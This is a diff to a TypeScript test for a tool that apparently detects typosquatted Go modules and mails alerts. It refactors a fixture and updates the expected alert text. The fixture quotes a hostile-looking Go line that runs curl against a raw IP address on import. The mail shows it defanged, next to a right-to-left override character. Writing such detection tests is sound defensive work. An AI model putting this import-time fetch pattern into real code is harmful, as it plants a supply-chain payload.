@@ -3,6 +3,7 @@ import assert from 'node:assert/strict'
 import { readFileSync, rmSync } from 'node:fs'
 import path from 'node:path'
 import { after, before, test } from 'node:test'
+import type { FindingDraft } from '@mirrorwatch/detect/finding'
 import { type AlertDeps, sendDueAlerts } from '@mirrorwatch/notify/alerts/send'
 import { createMailer } from '@mirrorwatch/notify/delivery/mailer'
 import { readConfig } from '@mirrorwatch/pipeline/config/config'
@@ -11,6 +12,7 @@ import { deliveriesOf } from '@mirrorwatch/store/tables/deliveries'
 import { saveFindings } from '@mirrorwatch/store/tables/findings'
 import { mirrorwatch } from '@mirrorwatch/testing/cli'
 import { createDatabase, temporaryFolder } from '@mirrorwatch/testing/databases'
+import { aReason, usesOf } from '@mirrorwatch/testing/findings'
 import { PASSWORD, type SmtpLab, startSmtpLab, USER } from '@mirrorwatch/testing/smtp-lab'
 import { createHttpClient } from '@mirrorwatch/upstream/http/client'
 import type { HttpClient } from '@mirrorwatch/upstream/http/types'
@@ -77,14 +79,13 @@ async function found(module: string, severity: 'critical' | 'medium'): Promise<v
     .values({ path: module, first_cached_at: SEEN, last_cached_at: SEEN })
     .returning('id')
     .executeTakeFirstOrThrow()
-  const lines = [{ file: 'db.go', line: 7, quote: 'exec.Command("curl", "http://49.12.198.231/naïve")' }]
-  const signals = [{ rule: 'import-process', version: 'v1.3.1', evidence: { count: 1, lines } }]
-  const finding = {
+  const evidence = usesOf({ quote: 'exec.Command("curl", "http://49.12.198.231/naïve")' })
+  const finding: FindingDraft = {
     target: 'github.com/boltdb/bolt',
     severity,
     summary: `${module} runs a process on import \u202e.`,
-    signals,
-    because: ['critical of v1.3.1 by row "armed": code was added that acts on import (import-process)'],
+    signals: [{ rule: 'import-process', version: 'v1.3.1', evidence }],
+    because: [aReason()],
   }
   await store.db.transaction().execute((trx) => saveFindings(trx, id, [finding], SEEN))
 }
@@ -121,10 +122,11 @@ test('an alert arrives as a mail, once to each, and a medium finding is none', a
     [
       mail.subject,
       '',
-      '[CRITICAL] github[.]com/boltdb-go/bolt (#1)',
+      '[CRITICAL] github[.]com/boltdb-go/bolt',
       '  imitates github[.]com/boltdb/bolt',
-      '  github[.]com/boltdb-go/bolt runs a process on import \\u{202e}.',
-      '  why critical: v1.3.1: code was added that acts on import (import-process) [armed]',
+      '  It runs a process on import \\u{202e}.',
+      '  why critical: v1.3.1: code was added that acts on import (near-copy, import-process) [armed]',
+      '  #1: open, first seen 2026-11-24',
       '  https://watch.example.com/findings/1',
       '    | db.go:7: exec.Command("curl", "http[:]//49[.]12[.]198[.]231/naïve")',
       '',
